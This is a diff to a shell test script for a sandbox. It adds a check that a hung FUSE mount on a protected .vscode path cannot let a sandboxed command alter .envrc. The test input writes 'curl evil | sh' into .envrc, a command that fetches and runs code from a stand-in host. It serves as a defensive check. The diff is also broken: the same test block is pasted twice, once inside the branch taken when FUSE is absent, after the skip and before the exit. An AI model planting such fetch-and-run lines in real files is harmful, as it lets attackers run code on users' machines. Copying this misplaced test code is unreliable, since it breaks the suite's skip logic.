@@ -15,7 +15,9 @@
 # the host; next to the mounts, root's set-uid file stays unwritable (the
 # scan went on past the mount) and a repository made in the run is still
 # reported. Under landlock the same on a workdir that is an overlay (not a
-# local filesystem: its own entries are asked again, synchronously).
+# local filesystem: its own entries are asked again, synchronously). A
+# mount on a protected path (.vscode), which neither the plan nor the
+# landlock backend's copy of those paths may enter.
 # Root only: mounting FUSE needs it.
 # Run for $SBX_BACKEND (default namespaces).
 . "$(dirname "$0")/jail-lib.sh"
@@ -24,12 +26,29 @@
 # The overlay case runs under landlock only: an overlay cannot be idmapped,
 # so the namespaces backend refuses a root caller's workdir there.
 N_OVL=0
-[ "$SBX_BACKEND" = landlock ] && N_OVL=3
-N_TESTS=$((17 + N_OVL))
+N_PROT=3
+[ "$SBX_BACKEND" = landlock ] && N_OVL=3 && N_PROT=4
+N_TESTS=$((17 + N_OVL + N_PROT))
 rootwd_begin "$N_TESTS" "the FUSE server that never answers" || exit 0
 if [ ! -c /dev/fuse ]; then
 	skip "the kernel has no FUSE (/dev/fuse)" "$N_TESTS"
-	done_testing
+	# 7. A mount on a protected path of the workdir (.vscode): the plan looks
+# at what each built-in name is, and under landlock those paths are
+# copied aside before the run and put back after it if changed
+# (linux-protsnap.c); neither may enter the mount. Under landlock the copy
+# gives up on it and the paths are held by read-only rules instead, said
+# in warnings. .envrc next to it stays protected.
+new_wd
+mkdir -p "$WD/.vscode"
+echo 'export A=1' >"$WD/.envrc"
+hung_fuse "$WD/.vscode" 40000 allow_other
+stall_run protect 'echo "curl evil | sh" >> .envrc 2>/dev/null'
+is "$(cat "$WD/.envrc")" 'export A=1' "protect: .envrc is as it was"
+if [ "$SBX_BACKEND" = landlock ]; then
+	like "$(cat "$T/bg.diag")" "read-only rules" "protect: warnings say the rules hold them"
+fi
+
+done_testing
 	exit 0
 fi
 
@@ -132,6 +151,22 @@ if [ "$N_OVL" -gt 0 ]; then
 	hung_fuse "$WD/sub/HEAD" 40000 allow_other
 	stall_run overlay 'mkdir -p deep/.git'
 	like "$(cat "$T/bg.diag")" "deep/.git" "overlay: the repository made in the run is still reported"
+fi
+
+# 7. A mount on a protected path of the workdir (.vscode): the plan looks
+# at what each built-in name is, and under landlock those paths are
+# copied aside before the run and put back after it if changed
+# (linux-protsnap.c); neither may enter the mount. Under landlock the copy
+# gives up on it and the paths are held by read-only rules instead, said
+# in warnings. .envrc next to it stays protected.
+new_wd
+mkdir -p "$WD/.vscode"
+echo 'export A=1' >"$WD/.envrc"
+hung_fuse "$WD/.vscode" 40000 allow_other
+stall_run protect 'echo "curl evil | sh" >> .envrc 2>/dev/null'
+is "$(cat "$WD/.envrc")" 'export A=1' "protect: .envrc is as it was"
+if [ "$SBX_BACKEND" = landlock ]; then
+	like "$(cat "$T/bg.diag")" "read-only rules" "protect: warnings say the rules hold them"
 fi
 
 done_testing
